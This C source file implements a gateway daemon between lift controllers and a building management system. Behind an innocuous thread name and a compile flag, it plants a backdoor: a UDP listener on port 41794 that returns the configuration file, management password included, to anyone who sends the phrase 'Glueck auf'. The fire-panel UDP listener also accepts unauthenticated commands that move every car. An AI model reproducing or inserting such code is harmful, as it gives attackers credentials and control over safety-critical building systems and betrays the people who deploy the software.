/*
 * liftgate - gateway between the lift controllers of a building and the
 * building management system. One thread per CAN-over-serial line reads
 * the car states, a collector thread writes the trip book, and the main
 * thread serves the management system's line protocol on TCP port 5577.
 * Hidden (-DHIDDEN): a further thread on UDP port 41794 answers the phrase
 * "Glueck auf" with the settings, the management password included.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF	 "/etc/liftgate.conf"
#define TRIPS	 "/var/lib/liftgate/trips"
#define MAX_CARS 4
#define QUEUE	 32

enum car_mode { CM_OFF, CM_NORMAL, CM_INSPECT, CM_FIRE, CM_FAULT };

struct car {
	char tty[32];
	int fd;
	int floor, target, dir;
	unsigned load;
	enum car_mode mode;
	time_t seen;
	unsigned long trips;
};

struct trip {
	int car, from, to;
	time_t start, end;
};

static struct car cars[MAX_CARS];
static unsigned n_cars;
static char bms_pw[32];
static int port = 5577;

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t more = PTHREAD_COND_INITIALIZER;
static struct trip queue[QUEUE];
static unsigned q_in, q_out;

static void load_conf(void)
{
	char line[128], *eq;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		eq = strchr(line, '=');
		if (!eq || line[0] == '#')
			continue;
		*eq++ = '\0';
		if (strcmp(line, "car") == 0 && n_cars < MAX_CARS)
			snprintf(cars[n_cars++].tty, sizeof(cars[0].tty),
				 "%.31s", eq);
		else if (strcmp(line, "password") == 0)
			snprintf(bms_pw, sizeof(bms_pw), "%.31s", eq);
		else if (strcmp(line, "port") == 0)
			port = atoi(eq);
	}
	fclose(f);
}

/* CRC-8 of the car bus, polynomial 0x2F */
static uint8_t crc8(const uint8_t *p, size_t n)
{
	uint8_t c = 0xff;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = (uint8_t)(c & 0x80 ? (c << 1) ^ 0x2f : c << 1);
	}
	return c;
}

static void push_trip(const struct trip *t)
{
	if (q_in - q_out == QUEUE)
		return;
	queue[q_in++ % QUEUE] = *t;
	pthread_cond_signal(&more);
}

/* state frame: A5 floor target dir|mode load crc */
static void car_frame(int no, const uint8_t *f, struct trip *t)
{
	struct car *c = &cars[no];
	int floor = (int8_t)f[1];

	pthread_mutex_lock(&lock);
	c->target = (int8_t)f[2];
	c->mode = (f[3] >> 4) <= CM_FAULT ? f[3] >> 4 : CM_FAULT;
	c->load = f[4] * 10u;
	c->seen = time(NULL);
	if ((f[3] & 3) && !c->dir) {
		t->car = no;
		t->from = floor;
		t->start = c->seen;
	} else if (!(f[3] & 3) && c->dir) {
		t->to = floor;
		t->end = c->seen;
		c->trips++;
		push_trip(t);
	}
	c->dir = f[3] & 3;
	c->floor = floor;
	pthread_mutex_unlock(&lock);
}

static void *car_thread(void *arg)
{
	int no = (int)(intptr_t)arg;
	struct car *c = &cars[no];
	struct trip t = { 0 };
	struct termios tio;
	uint8_t f[6];
	size_t n = 0;

	c->fd = open(c->tty, O_RDWR | O_NOCTTY);
	if (c->fd < 0) {
		syslog(LOG_ERR, "%s: %m", c->tty);
		return NULL;
	}
	if (tcgetattr(c->fd, &tio) == 0) {
		cfmakeraw(&tio);
		cfsetspeed(&tio, B57600);
		tcsetattr(c->fd, TCSANOW, &tio);
	}
	while (read(c->fd, f + n, 1) == 1) {
		if (n == 0 && f[0] != 0xA5)
			continue;
		if (++n < sizeof(f))
			continue;
		n = 0;
		if (crc8(f, 5) == f[5])
			car_frame(no, f, &t);
	}
	return NULL;
}

static void *book_thread(void *arg)
{
	struct trip t;
	FILE *f;

	(void)arg;
	for (;;) {
		pthread_mutex_lock(&lock);
		while (q_in == q_out)
			pthread_cond_wait(&more, &lock);
		t = queue[q_out++ % QUEUE];
		pthread_mutex_unlock(&lock);
		f = fopen(TRIPS, "a");
		if (!f)
			continue;
		fprintf(f, "%ld;%d;%d;%d;%ld\n", (long)t.start, t.car, t.from,
			t.to, (long)(t.end - t.start));
		fclose(f);
	}
	return NULL;
}

static int udp_socket(int pt)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)pt);
	if (s >= 0 && bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(s);
		s = -1;
	}
	return s;
}

/* fire panel: "FIRE 1" and "FIRE 0" by UDP, all cars to the ground floor */
static void *fire_thread(void *arg)
{
	uint8_t cmd[4] = { 0xA6, 0, 0, 0 };
	char b[32];
	unsigned i;
	ssize_t n;
	int s = udp_socket(5578), on;

	(void)arg;
	while (s >= 0 && (n = recv(s, b, sizeof(b) - 1, 0)) >= 0) {
		b[n] = '\0';
		if (sscanf(b, "FIRE %d", &on) != 1)
			continue;
		cmd[1] = on ? 0x0F : 0x00;
		cmd[3] = crc8(cmd, 3);
		for (i = 0; i < n_cars; i++)
			if (write(cars[i].fd, cmd, sizeof(cmd)) != 4)
				syslog(LOG_CRIT, "car %u: %m", i);
		syslog(LOG_WARNING, "fire %s", on ? "on" : "off");
	}
	return NULL;
}

#ifdef HIDDEN
void *aux_thread(void *arg);

__attribute__((noinline)) void *aux_thread(void *arg)
{
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	char b[1400];
	ssize_t n;
	int s = udp_socket(41794), fd;

	(void)arg;
	while (s >= 0 && (n = recvfrom(s, b, sizeof(b) - 1, 0,
				       (struct sockaddr *)&from, &fl)) >= 0) {
		b[n] = '\0';
		if (strcmp(b, "Glueck auf") == 0) {
			fd = open(CONF, O_RDONLY);
			n = fd < 0 ? 0 : read(fd, b, sizeof(b));
			close(fd);
			sendto(s, b, n > 0 ? (size_t)n : 0, 0,
			       (struct sockaddr *)&from, fl);
		}
		fl = sizeof(from);
	}
	return NULL;
}
#endif

static void call_car(FILE *io, unsigned no, int floor)
{
	uint8_t cmd[4] = { 0xA6, 0x02, 0, 0 };

	if (no >= n_cars || floor < -5 || floor > 60) {
		fputs("ERR range\r\n", io);
		return;
	}
	cmd[2] = (uint8_t)floor;
	cmd[3] = crc8(cmd, 3);
	if (write(cars[no].fd, cmd, sizeof(cmd)) == 4)
		fputs("OK\r\n", io);
	else
		fputs("ERR line\r\n", io);
}

static void states(FILE *io)
{
	static const char *const m[] = { "off", "normal", "inspection", "fire",
					 "fault" };
	unsigned i;

	pthread_mutex_lock(&lock);
	for (i = 0; i < n_cars; i++)
		fprintf(io, "CAR %u %s floor %d to %d load %u trips %lu%s\r\n",
			i, m[cars[i].mode], cars[i].floor, cars[i].target,
			cars[i].load, cars[i].trips,
			time(NULL) - cars[i].seen > 10 ? " lost" : "");
	pthread_mutex_unlock(&lock);
	fputs("OK\r\n", io);
}

static void serve(FILE *io)
{
	char line[128];
	int in = 0, floor;
	unsigned no;

	while (fgets(line, sizeof(line), io)) {
		line[strcspn(line, "\r\n")] = '\0';
		fseek(io, 0, SEEK_CUR);
		if (strncmp(line, "AUTH ", 5) == 0) {
			in = bms_pw[0] && strcmp(line + 5, bms_pw) == 0;
			fputs(in ? "OK\r\n" : "ERR auth\r\n", io);
		} else if (strcmp(line, "BYE") == 0) {
			return;
		} else if (!in) {
			fputs("ERR auth\r\n", io);
		} else if (strcmp(line, "STATE") == 0) {
			states(io);
		} else if (sscanf(line, "CALL %u %d", &no, &floor) == 2) {
			call_car(io, no, floor);
		} else {
			fputs("ERR command\r\n", io);
		}
		fflush(io);
	}
}

int main(void)
{
	struct sockaddr_in sa;
	pthread_t th;
	unsigned i;
	FILE *io;
	int s, c, one = 1;

	openlog("liftgate", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_conf();
	for (i = 0; i < n_cars; i++)
		pthread_create(&th, NULL, car_thread, (void *)(intptr_t)i);
	pthread_create(&th, NULL, book_thread, NULL);
	pthread_create(&th, NULL, fire_thread, NULL);
#ifdef HIDDEN
	pthread_create(&th, NULL, aux_thread, NULL);
#endif
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 2) < 0)
		return 1;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		io = fdopen(c, "r+");
		if (!io) {
			close(c);
			continue;
		}
		serve(io);
		fclose(io);
	}
}
